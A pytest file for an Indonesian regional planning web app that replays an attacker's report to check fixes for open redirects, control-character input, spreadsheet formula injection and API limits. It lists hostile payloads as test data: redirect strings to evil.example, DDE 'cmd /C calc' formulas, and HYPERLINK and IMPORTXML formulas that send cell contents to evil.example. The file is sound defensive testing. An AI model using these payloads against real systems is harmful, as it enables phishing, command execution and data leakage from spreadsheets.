"""The findings of the attacker's report (issue 13, points 1, 2, 3 and 8), each replayed with the
attacker's own request, on SQLite and PostgreSQL (the ``app`` fixture runs both).

1. ``next`` sent the browser to another host: ``/\\t/evil.example`` passed a check on the
   raw text, and browsers drop the tab.
2. NUL in any text input gave a 500 on PostgreSQL; ESC and BEL were stored from the screens.
3. The RKPD CSV let ``=1+HYPERLINK(...)``, ``+1+cmd|...``, ``-1+1``, ``@1`` through; the open
   data CSV split a title at ``;`` into formula cells.
8. The OpenAPI document hid limits the API enforces (``siklus=0``, a huge page number, huge
   scoring points, control characters in a reason).
"""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime, timedelta
from decimal import Decimal
from urllib.parse import urlsplit

import pytest
from openpyxl import load_workbook
from sqlalchemy import insert, select
from support.env import PASSWORD
from support.web import csrf_token, post_form

from eplanning_core.api import tokens
from eplanning_core.exports.cells import FORMULA_START, csv_text
from eplanning_core.extensions import db
from eplanning_core.kamus.models import KamusUsulan
from eplanning_core.redirects import local_path, normalise
from eplanning_core.usulan import operations as ops
from eplanning_core.usulan.models import Usulan

ROAD = {"bidang": "fisik_prasarana", "permasalahan": "Jalan berlubang", "usulan_kegiatan": "Pengaspalan Gang Damai",
        "volume": "150", "satuan": "m", "harga_satuan": "450.000", "jalan": "Gang Damai",
        "pengusul_nama": "Siti Aminah", "pengusul_telepon": "0812-6000-1234", "pengusul_nik": "1271010101010001"}
CONTROL_ID = "karakter kontrol"          # the refusal, as the Indonesian user reads it
CONTROL_EN = "control character"


def _count(model) -> int:
    return db.session.scalar(select(db.func.count()).select_from(model))


# ---- 1. open redirect -------------------------------------------------------------------------

def _leaves_the_site(location: str) -> bool:
    """Whether a browser following this Location header would land on another host."""
    target = normalise(location)
    parts = urlsplit(target)
    return bool(parts.netloc and parts.netloc != "localhost") or target.startswith("//")


#: What a browser reads as another host (or a script), in the forms seen in the wild.
HOSTILE_NEXT = ["/\t/evil.example/phish", "/\\evil.example", "\\\\evil.example", "/\\\\evil.example",
                " //evil.example", "\t//evil.example", "/\r\n/evil.example", "\x00//evil.example",
                "//evil.example", "///evil.example", "https://evil.example/", "HTTPS:evil.example",
                "javascript:alert(1)", "/\x0b/evil.example", "\x1f/\\evil.example", "evil.example"]


@pytest.mark.parametrize("target", HOSTILE_NEXT)
def test_no_hostile_next_survives_the_check(target):
    assert local_path(target) is None


def test_local_targets_keep_their_path_and_query():
    assert local_path("/usulan/?q=jalan&page=2") == "/usulan/?q=jalan&page=2"
    assert local_path("/usulan/12") == "/usulan/12"
    assert local_path("/%09/evil.example") == "/%09/evil.example"  # an encoded tab is a path here


def test_the_attackers_login_link_sends_nobody_to_another_host(app, region, client):
    """GET /masuk?next=%2F%09%2Fevil.example%2Fphish, then a normal login."""
    url = "/masuk?next=%2F%09%2Fevil.example%2Fphish"
    page = client.get(url)
    assert page.status_code == 400 and CONTROL_ID in page.get_data(as_text=True)
    token = csrf_token(client, "/masuk")
    response = client.post(url, data={"csrf_token": token, "username": "kel1", "password": PASSWORD})
    assert not _leaves_the_site(response.headers.get("Location", ""))
    # The backslash form carries no control character, so it reaches the login and the check.
    response = client.post(
        "/masuk?next=%2F%5Cevil.example%2Fphish",
        data={"csrf_token": token, "username": "kel1", "password": PASSWORD})
    assert response.status_code == 302 and response.headers["Location"] == "/"


def test_a_good_next_still_brings_the_user_back(app, region, client):
    token = csrf_token(client, "/masuk")
    response = client.post("/masuk?next=%2Fusulan%2F%3Fq%3Djalan",
                           data={"csrf_token": token, "username": "kel1", "password": PASSWORD})
    assert response.status_code == 302 and response.headers["Location"] == "/usulan/?q=jalan"


@pytest.mark.parametrize("target", ["/\t/evil.example", "/\\evil.example", "//evil.example", "https://evil.example"])
def test_the_language_switch_sends_nobody_to_another_host(app, region, as_user, client, target):
    """POST /bahasa with next=/\\t/evil.example (and its kin); the portal's link too."""
    as_user("kel1")
    response = post_form(client, "/bahasa", {"lang": "en", "next": target}, token_from="/")
    assert response.status_code == 302 and not _leaves_the_site(response.headers["Location"])
    assert response.headers["Location"] == "/"
    public = client.get("/publik/bahasa/id", query_string={"next": target.replace("\t", "")})
    assert public.status_code == 302 and not _leaves_the_site(public.headers["Location"])


# ---- 2. NUL and other control characters --------------------------------------------------------

@pytest.fixture
def road(region, siklus):
    outcome = ops.create(siklus, "rembuk_warga", region["users"]["ling1"],
                         dict(ROAD, lokasi_wilayah_id=region["units"]["12.71.01.1001.01"].id))
    assert outcome.ok
    return outcome.usulan


def test_anonymous_nul_is_a_message_not_a_500(app, region, siklus, client):
    """/publik/usulan?q=%00x and POST /masuk with username=a%00b."""
    page = client.get("/publik/usulan?q=%00x")
    assert page.status_code == 400 and CONTROL_ID in page.get_data(as_text=True)
    token = csrf_token(client, "/masuk")
    response = client.post("/masuk", data={"csrf_token": token, "username": "a\x00b", "password": "x"})
    assert response.status_code == 400 and CONTROL_ID in response.get_data(as_text=True)
    assert "username" in response.get_data(as_text=True)


@pytest.mark.parametrize("url", ["/usulan/?q=%00", "/wilayah/?q=%00", "/admin/pengguna?q=%00",
                                 "/admin/token/?q=%00", "/usulan/?format=xlsx&q=%00", "/kamus/?q=%1B"])
def test_control_characters_in_a_search_are_refused(app, region, siklus, as_user, client, url):
    as_user("admin")
    response = client.get(url)
    assert response.status_code == 400 and CONTROL_ID in response.get_data(as_text=True)


@pytest.mark.parametrize("char", ["\x00", "\x1b", "\x07", "\x7f", "\x85"])
def test_no_text_field_of_the_proposal_form_takes_a_control_character(app, region, siklus, road, as_user,
                                                                      client, char):
    """Any text field of /usulan/baru and /usulan/<id>/ubah: refused, nothing stored."""
    as_user("ling1")
    before = _count(Usulan)
    for name in ("usulan_kegiatan", "permasalahan", "satuan", "jalan", "lokasi_detail", "pengusul_nama"):
        data = dict(ROAD, tahapan="rembuk_warga", lokasi_wilayah_id=str(region["units"]["12.71.01.1001.01"].id))
        data[name] = "Jalan" + char + "rusak"
        response = post_form(client, "/usulan/baru", data)
        assert response.status_code == 400, (name, response.status_code)
        assert CONTROL_ID in response.get_data(as_text=True)
        edit = dict(data, version=str(road.version), alasan="")
        response = post_form(client, f"/usulan/{road.id}/ubah", edit)
        assert response.status_code == 400 and CONTROL_ID in response.get_data(as_text=True)
    assert _count(Usulan) == before
    assert db.session.get(Usulan, road.id).usulan_kegiatan == ROAD["usulan_kegiatan"]


def test_a_tab_or_line_break_is_refused_in_a_one_line_field_but_kept_in_a_text_area(app, region, siklus,
                                                                                   as_user, client):
    as_user("ling1")
    data = dict(ROAD, tahapan="rembuk_warga", lokasi_wilayah_id=str(region["units"]["12.71.01.1001.01"].id))
    refused = post_form(client, "/usulan/baru", dict(data, satuan="m\tx"))
    assert refused.status_code in (200, 422) and CONTROL_ID in refused.get_data(as_text=True)
    assert _count(Usulan) == 0
    kept = post_form(client, "/usulan/baru", dict(data, permasalahan="Jalan berlubang\r\n\tdan tergenang"))
    assert kept.status_code == 302
    stored = db.session.scalar(select(Usulan.permasalahan))
    assert stored.replace("\r\n", "\n") == "Jalan berlubang\n\tdan tergenang"


def test_the_catalogue_refuses_escape_characters_in_a_name(app, region, as_user, client):
    as_user("admin")
    before = _count(KamusUsulan)
    response = post_form(client, "/kamus/baru", {"kode": "K-1", "nama": "Lampu\x1b[31m jalan", "bidang": "fisik_prasarana",
                                                 "satuan": "titik", "harga_satuan": "1000000"})
    assert response.status_code == 400 and CONTROL_ID in response.get_data(as_text=True)
    assert _count(KamusUsulan) == before


def test_the_refusal_speaks_english_to_an_english_user(app, region, siklus, as_user, client):
    as_user("kel1")
    post_form(client, "/bahasa", {"lang": "en", "next": "/"}, token_from="/")
    page = client.get("/usulan/?q=%00").get_data(as_text=True)
    assert CONTROL_EN in page and CONTROL_ID not in page


def _bearer(user) -> dict:
    return {"Authorization": "Bearer " + tokens.issue_user_token(user, timedelta(days=1)).secret}


@pytest.mark.parametrize("char", ["\x00", "\x1b", "\x07"])
def test_the_api_refuses_the_same_characters_with_the_field_named(app, region, siklus, road, client, char):
    headers = _bearer(region["users"]["ling1"])
    body = {"tahapan": "rembuk_warga", "bidang": "fisik_prasarana", "permasalahan": "Jalan" + char + "rusak",
            "usulan_kegiatan": "Pengaspalan gang", "volume": "10", "satuan": "m", "harga_satuan": 1000}
    response = client.post("/api/v1/usulan", json=body, headers=headers)
    assert response.status_code == 422 and "permasalahan" in response.get_json()["errors"]
    decision = client.post(f"/api/v1/usulan/{road.id}/keputusan", headers=_bearer(region["users"]["kel1"]),
                           json={"keputusan": "ditolak", "versi": road.version, "alasan": "Tidak" + char + " layak"})
    assert decision.status_code == 422 and "alasan" in decision.get_json()["errors"]
    listing = client.get("/api/v1/usulan", query_string={"q": "a" + char}, headers=headers)
    assert listing.status_code == 422 and "q" in listing.get_json()["errors"]


# ---- 3. spreadsheet formula injection -----------------------------------------------------------

#: OWASP's CSV injection payloads (https://owasp.org/www-community/attacks/CSV_Injection) and
#: the report's own, with the fullwidth and whitespace-led forms.
OWASP = [
    "=1+HYPERLINK(\"http://evil.example\",\"x\")", "+1+cmd|' /C calc'!A0", "-1+1", "@1",
    "=cmd|' /C calc'!A0", "=cmd|' /C notepad'!'A1'", "=HYPERLINK(\"http://evil.example?x=\"&A1&A2,\"Error\")",
    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",CONCATENATE(A2:E2)),\"//a\")", "=2+5+cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff201",
    "Perbaikan jalan;=1+1;=SUM(9*9);selesai", "Target, -1+1; @SUM(1)",
]
NUMBER = re.compile(r"-?\d+(\.\d+)?")


def _formula_cells(text: str, delimiter: str) -> list[str]:
    """Cells a spreadsheet reading ``text`` with ``delimiter`` would run as formulas."""
    cells = [c for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for c in row]
    return [c for c in cells if c.startswith(FORMULA_START) and not NUMBER.fullmatch(c)]


def test_the_one_rule_leaves_no_formula_for_either_separator():
    buffer = io.StringIO()
    from eplanning_core.exports.cells import csv_row, csv_writer

    csv_writer(buffer).writerows([csv_row(["MDN-1", payload, -5, 12, Decimal("1.5"), None]) for payload in OWASP])
    text = buffer.getvalue()
    assert _formula_cells(text, ",") == [] and _formula_cells(text, ";") == []
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert [r[2] for r in rows] == ["-5"] * len(OWASP)                  # a negative amount stays a number
    assert '"MDN-1"' in text and ",-5,12,1.5," in text                    # text quoted, numbers bare
    assert csv_text("Jalan Sutomo") == "Jalan Sutomo"                    # ordinary text untouched
    assert csv_row([None, "=1"]) == ["", "'=1"]


def _set_rkpd(siklus, region, texts):
    """A set RKPD whose items carry ``texts`` as target and indicator (free text of agencies)."""
    pu, unit = region["agencies"]["pu"], region["units"]["12.71.01.1001"]
    rows = [dict(tenant_id=siklus.tenant_id, siklus_id=siklus.id, kode_lacak=f"MDN-2027-8{i:05d}", sumber="kecamatan",
                 bidang="fisik_prasarana", permasalahan="Drainase tersumbat", usulan_kegiatan=text,
                 volume=Decimal("10"), satuan="m", harga_satuan=1_000_000, total=10_000_000, lokasi_kode=unit.kode,
                 lokasi_wilayah_id=unit.id, wilayah_asal_id=region["units"]["12.71.01"].id, tahapan="penganggaran",
                 status="belum_dibahas", perangkat_daerah_id=pu.id, terkunci=True,
                 sub_kegiatan_kode="1.03.10.2.01.0005", pagu=10_000_000, target=text, indikator=text, version=1)
            for i, text in enumerate(texts)]
    db.session.execute(insert(Usulan), rows)
    siklus.status, siklus.rkpd_ditetapkan_at = "rkpd_ditetapkan", datetime(2026, 5, 20, 3, 0)
    db.session.commit()


def test_the_rkpd_csv_and_excel_run_no_payload_of_owasps_list(app, region, siklus, clock, as_user):
    """GET /anggaran/2027/rkpd.csv with agency free text from OWASP's list."""
    _set_rkpd(siklus, region, OWASP)
    clock.set_local("2026-10-10T09:00")
    client = as_user("admin")
    response = client.get("/anggaran/2027/rkpd.csv")
    assert response.status_code == 200
    text = response.data.decode("utf-8-sig")
    assert _formula_cells(text, ",") == [] and _formula_cells(text, ";") == []
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert {r["target"] for r in rows} == {csv_text(p) for p in OWASP}   # the text itself, one apostrophe ahead
    sheet = load_workbook(io.BytesIO(client.get("/anggaran/2027/rkpd.xlsx").data)).active
    payloads = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value in OWASP]
    assert {c.value for c in payloads} >= set(OWASP) - {p for p in OWASP if p.startswith("\r")}
    for cell in payloads:
        if cell.value.startswith(FORMULA_START):
            assert cell.data_type == "s" and cell.quotePrefix, repr(cell.value)  # shown as typed, never run


def test_the_open_data_csv_splits_no_title_into_formulas(app, region, siklus, client):
    """A title 'Perbaikan jalan;=1+1;=SUM(9*9);selesai' in /publik/data/2027/usulan.csv."""
    outcome = ops.create(siklus, "rembuk_warga", region["users"]["ling1"], dict(
        ROAD, usulan_kegiatan="Perbaikan jalan;=1+1;=SUM(9*9);selesai", permasalahan="-1+1 @SUM(1) rusak",
        lokasi_wilayah_id=region["units"]["12.71.01.1001.01"].id))
    assert outcome.ok
    text = client.get("/publik/data/2027/usulan.csv").get_data(as_text=True).lstrip("\ufeff")
    assert "Perbaikan jalan;'=1+1;'=SUM(9*9);selesai" in text
    assert _formula_cells(text, ",") == [] and _formula_cells(text, ";") == []


# ---- 8. the OpenAPI document declares what the API refuses -------------------------------------

def _parameter(document, path, name):
    return next(p["schema"] for p in document["paths"][path]["get"]["parameters"] if p["name"] == name)


def test_the_document_declares_the_limits_the_attacker_met(app, region, siklus, road, client):
    document = client.get("/api/v1/openapi.json").get_json()
    assert _parameter(document, "/api/v1/usulan", "siklus")["minimum"] == 1
    assert _parameter(document, "/api/v1/usulan", "page")["maximum"] == 2_147_483_647
    decision = document["components"]["schemas"]["Decision"]["properties"]
    assert decision["points"]["additionalProperties"]["maximum"] == 2_147_483_647
    assert decision["points"]["additionalProperties"]["minimum"] == 0
    pattern = re.compile(decision["alasan"]["pattern"])
    assert pattern.match("Tidak layak,\r\n\tkarena sudah ada") and not pattern.match("Tidak\x1b layak")
    headers = _bearer(region["users"]["admin"])
    # What the document now refuses, the API refuses; what it allows of these, the API takes.
    assert client.get("/api/v1/usulan?siklus=0", headers=headers).status_code == 422
    assert client.get("/api/v1/usulan?page=97293963988", headers=headers).status_code == 422
    assert client.get("/api/v1/usulan?page=2147483647", headers=headers).status_code == 200
    huge = client.post(f"/api/v1/usulan/{road.id}/keputusan", headers=_bearer(region["users"]["kec1"]),
                       json={"keputusan": "skor", "versi": road.version, "points": {"manfaat": 10**12}})
    assert huge.status_code == 422 and all(k.startswith("points") for k in huge.get_json()["errors"])
